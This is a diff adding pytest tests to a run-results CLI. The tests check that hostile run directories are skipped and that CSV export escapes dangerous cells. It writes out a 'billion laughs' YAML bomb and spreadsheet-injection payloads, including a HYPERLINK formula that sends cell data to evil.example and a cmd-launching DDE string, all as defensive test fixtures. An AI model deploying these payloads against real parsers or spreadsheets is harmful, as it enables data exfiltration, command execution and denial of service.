@@ -4,14 +4,18 @@ leaderboard, export, plot) computing what they say."""
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import json
 import multiprocessing
+import os
+import signal
 import sqlite3
 import statistics
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import pytest
 from omegaconf import OmegaConf
@@ -275,7 +279,7 @@ def test_the_console_script_is_installed():
         assert command in out.stdout
 
 
-def test_a_run_without_a_final_status_is_running_while_locked_else_unfinished(tmp_path):
+def test_a_run_without_a_final_status_is_running_while_locked_else_interrupted(tmp_path):
     from dgsolve import lock
     from dgsolve.results.record import read_run
 
@@ -285,4 +289,222 @@ def test_a_run_without_a_final_status_is_running_while_locked_else_unfinished(tm
         assert lock.is_held(d) and read_run(d)["status"] == "running"
     finally:
         lock.release(d)
-    assert not lock.is_held(d) and read_run(d)["status"] == "unfinished"
+    assert not lock.is_held(d) and read_run(d)["status"] == "interrupted"
+
+
+class Hung(BaseException):
+    """Raised by :func:`deadline`; not an Exception, so that no ``except Exception`` in the
+    code under test swallows it."""
+
+
+@contextlib.contextmanager
+def deadline(seconds):
+    """Fail the test where the block takes longer than ``seconds`` (a hang, or a YAML bomb
+    being expanded) instead of letting it run on. :class:`Hung` is raised again every 0.2 s
+    until it gets out (cleanup code in a library can replace it with its own exception)."""
+
+    def expired(signum, frame):
+        raise Hung(f"not done within {seconds} s")
+
+    previous = signal.signal(signal.SIGALRM, expired)
+    signal.setitimer(signal.ITIMER_REAL, seconds, 0.2)
+    try:
+        yield
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+#: "billion laughs": 9 levels of 9 aliases, 9**9 (387 million) strings from 1 KB of YAML
+BILLION_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
+    f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
+)
+
+
+def test_reindex_skips_hostile_run_directories_and_indexes_the_rest(tmp_path, index, capsys):
+    tree = tmp_path / "tree"
+    good = [fake_run(tree, f"good{i}", seed=i) for i in range(2)]
+    bomb = fake_run(tree, "bomb")
+    (bomb / "run_config.yaml").write_text(BILLION_LAUGHS)
+    overrides_bomb = fake_run(tree, "overrides_bomb")
+    (overrides_bomb / ".hydra" / "overrides.yaml").write_text(BILLION_LAUGHS + "j: *i\n")
+    huge = fake_run(tree, "huge_summary")
+    os.truncate(huge / "summary.json", 64 << 20)  # sparse: 64 MB of NULs, over the bound
+    damaged = fake_run(tree, "damaged_summary")
+    (damaged / "summary.json").write_text('{"status": "completed", "returns": ')
+    deep = fake_run(tree, "deep_summary")  # would overflow the stack of `export`'s flatten
+    (deep / "summary.json").write_text('{"a": ' * 900 + "1" + "}" * 900)
+    scalar = fake_run(tree, "scalar_config")
+    (scalar / "run_config.yaml").write_text("just a string\n")
+    # odd but harmless: a seed SQLite cannot hold, a lone surrogate, a FIFO as the lock
+    odd = fake_run(tree, "odd", status="evaluating")
+    cfg = OmegaConf.to_container(OmegaConf.load(odd / "run_config.yaml"))
+    cfg["seed"] = 1 << 70
+    (odd / "run_config.yaml").write_text(OmegaConf.to_yaml(OmegaConf.create(cfg)))
+    summary = json.loads((odd / "summary.json").read_text())
+    (odd / "summary.json").write_text(json.dumps({**summary, "env": "m\ud800"}))
+    os.mkfifo(odd / ".dgsolve.lock")  # opening it to probe the lock would block
+    (tree / "loop").symlink_to(tree)  # a link loop is not followed
+    with deadline(15):
+        code, out, err = results("reindex", str(tree), capsys=capsys)
+    assert code == 0
+    assert "3 runs indexed (3 new, 0 gone, 6 skipped" in out
+    rows = {r["name"]: r for r in index.runs()}
+    assert sorted(rows) == ["good0", "good1", "odd"]
+    assert rows["odd"]["seed"] == 0 and rows["odd"]["status"] == "interrupted"
+    assert rows["odd"]["env"] == "m?"
+    lines = err.strip().splitlines()
+    assert len(lines) == 6 and all(
+        line.startswith("dgsolve-results: warning: skipped ") for line in lines
+    )
+    reasons = {Path(line.split(": ")[2].removeprefix("skipped ")).name: line for line in lines}
+    assert "through YAML aliases" in reasons["bomb"]
+    assert "through YAML aliases" in reasons["overrides_bomb"]
+    assert "larger than" in reasons["huge_summary"]
+    assert "not readable JSON" in reasons["damaged_summary"]
+    assert "nested more than 64 levels" in reasons["deep_summary"]
+    assert "not a mapping" in reasons["scalar_config"]
+    assert [str(g.resolve()) for g in good] == [rows[f"good{i}"]["run_dir"] for i in range(2)]
+    with deadline(15):  # a hostile directory named directly is one line, exit 2
+        code, _, err = results("show", str(bomb), capsys=capsys)
+    assert code == 2 and len(err.strip().splitlines()) == 1 and "YAML aliases" in err
+
+
+def test_export_escapes_cells_a_spreadsheet_would_run_and_keeps_numbers(tmp_path, index, capsys):
+    from dgsolve.results.cli import csv_cell
+
+    d = fake_run(tmp_path, "evil", gap=-0.5)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    overrides = [link, "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "env=matrix"]
+    (d / ".hydra" / "overrides.yaml").write_text(json.dumps(overrides))
+    summary = json.loads((d / "summary.json").read_text())
+    summary.update(env="-1+2", algo="@SUM(A1)", **{"=cmd()": 1.0})
+    (d / "summary.json").write_text(json.dumps(summary))
+    results("reindex", str(tmp_path), capsys=capsys)
+    out = tmp_path / "runs.csv"
+    assert results("export", str(out), capsys=capsys)[0] == 0
+    with out.open(newline="") as f:
+        [header, row] = list(csv.reader(f))
+    cell = dict(zip(header, row, strict=True))
+    assert cell["overrides"] == "'" + " ".join(overrides)
+    assert cell["label"].startswith("'\t=1+1 ")  # the sorted overrides begin with the tab
+    assert (cell["env"], cell["algo"]) == ("'-1+2", "'@SUM(A1)")
+    assert cell["run_dir"] == str(d.resolve()) and "'=cmd()" in header
+    # numbers stay numbers: unquoted, so a strict reader gets floats, the negative one included
+    with out.open(newline="") as f:
+        [_, typed] = list(csv.reader(f, quoting=csv.QUOTE_NONNUMERIC))
+    typed = dict(zip(header, typed, strict=True))
+    assert typed["eq.verdict.worst_gap"] == -0.5 and typed["returns.row"] == 0.5
+    assert typed["seed"] == 0 and typed["'=cmd()"] == 1.0
+    assert typed["env"] == "'-1+2"  # a string, not the number 1
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(start + "x") == "'" + start + "x"
+    assert [csv_cell(v) for v in (-0.5, -3, "a-b", "", None)] == [-0.5, -3, "a-b", "", None]
+
+
+def test_reindex_of_a_path_that_is_not_a_directory_is_one_line_exit_2(
+    tmp_path, index, capsys, monkeypatch
+):
+    monkeypatch.chdir(tmp_path)
+    fake_run(tmp_path / "outputs", "r")
+    (tmp_path / "file.txt").write_text("not a directory")
+    for path, reason in (("missing", "does not exist"), ("file.txt", "is not a directory")):
+        code, out, err = results("reindex", "outputs", path, capsys=capsys)
+        assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
+        assert f"'{path}'" in err and reason in err
+    assert index.runs() == []  # refused before anything was indexed
+    code, out, _ = results("reindex", capsys=capsys)  # a bare reindex reads ./outputs
+    assert code == 0 and "1 runs indexed (1 new" in out
+    (tmp_path / "outputs" / "r" / "run_config.yaml").unlink()
+    (tmp_path / "outputs").rename(tmp_path / "elsewhere")
+    code, out, _ = results("reindex", capsys=capsys)  # and without ./outputs still works
+    assert code == 0 and "0 runs indexed (0 new, 1 gone)" in out
+
+
+def _stored_status(index, run_dir):
+    with sqlite3.connect(index.path) as conn:
+        query = "SELECT status FROM runs WHERE run_dir = ?"
+        return conn.execute(query, (str(run_dir.resolve()),)).fetchone()[0]
+
+
+def _names(capsys, *argv):
+    code, out, _ = results("list", "--json", *argv, capsys=capsys)
+    assert code == 0
+    return sorted(r["name"] for r in json.loads(out))
+
+
+def test_a_running_row_whose_lock_no_process_holds_reads_interrupted(tmp_path, index, capsys):
+    from dgsolve import lock
+
+    dead = fake_run(tmp_path, "dead", status="evaluating")
+    (dead / lock.LOCK_NAME).write_text("4242")  # the lock file a killed run leaves, held by none
+    mine = fake_run(tmp_path, "mine", status="evaluating")
+    other = fake_run(tmp_path, "other", status="evaluating")
+    # another process holds `other`'s lock, as a live run does, until it is SIGKILLed
+    holder = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            "import fcntl, os, sys, time\n"
+            "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\n"
+            "fcntl.flock(fd, fcntl.LOCK_EX)\n"
+            "print('locked', flush=True)\n"
+            "time.sleep(120)\n",
+            str(other / lock.LOCK_NAME),
+        ],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert holder.stdout.readline().strip() == "locked"
+        lock.acquire(mine)
+        try:
+            for d in (dead, mine, other):
+                record_run(d, fallback="running")  # what dgsolve.run.run writes at the start
+                assert _stored_status(index, d) == "running"
+            # the filter first, before any read has stored a row as interrupted
+            assert _names(capsys, "--status", "interrupted") == ["dead"]
+            assert {r["name"]: r["status"] for r in index.runs()} == {
+                "dead": "interrupted",
+                "mine": "running",
+                "other": "running",
+            }
+            assert _stored_status(index, dead) == "interrupted"  # stored as read
+            assert _names(capsys, "--status", "running") == ["mine", "other"]
+            assert _names(capsys, "--status", "interrupted") == ["dead"]
+        finally:
+            lock.release(mine)
+        holder.kill()  # SIGKILL: the run never records how it ended
+        holder.wait(30)
+        assert _names(capsys, "--status", "interrupted") == ["dead", "mine", "other"]
+        assert _names(capsys, "--status", "running") == []
+        assert _stored_status(index, other) == "interrupted"
+        code, out, _ = results("show", "other", "--json", capsys=capsys)
+        assert code == 0 and json.loads(out)["status"] == "interrupted"
+    finally:
+        holder.kill()
+        holder.wait(30)
+
+
+def test_a_history_is_read_within_bounds_and_a_malformed_one_plots_what_it_can(
+    tmp_path, index, capsys, monkeypatch
+):
+    from dgsolve.results import curves
+
+    d = fake_run(tmp_path, "h")
+    results("reindex", str(tmp_path), capsys=capsys)
+    with monkeypatch.context() as patch:
+        patch.setattr(curves, "MAX_HISTORY_BYTES", 100)
+        code, _, err = results("plot", "--metric", "returns", "h", capsys=capsys)
+    assert code == 2 and len(err.strip().splitlines()) == 1
+    assert "history.json is larger than 100 bytes" in err
+    history = json.loads((d / "history.json").read_text())
+    history["episodes"]["returns"]["column"] = ["x", {"a": 1}, 2, 3]  # not numbers: left out
+    history["updates"] = ["not", "a", "mapping"]
+    history["evaluations"] = {"env_step": "oops", "eq/nash_conv": [1.0]}
+    (d / "history.json").write_text(json.dumps(history))
+    code, out, _ = results("plot", "--metric", "returns", "h", "--json", capsys=capsys)
+    assert code == 0 and json.loads(out)["curves"] == [[str(d.resolve()), "returns.row"]]
+    (d / "history.json").write_text('{"episodes": ')
+    code, _, err = results("plot", "--metric", "returns", "h", capsys=capsys)
+    assert code == 2 and "history.json is not readable JSON" in err
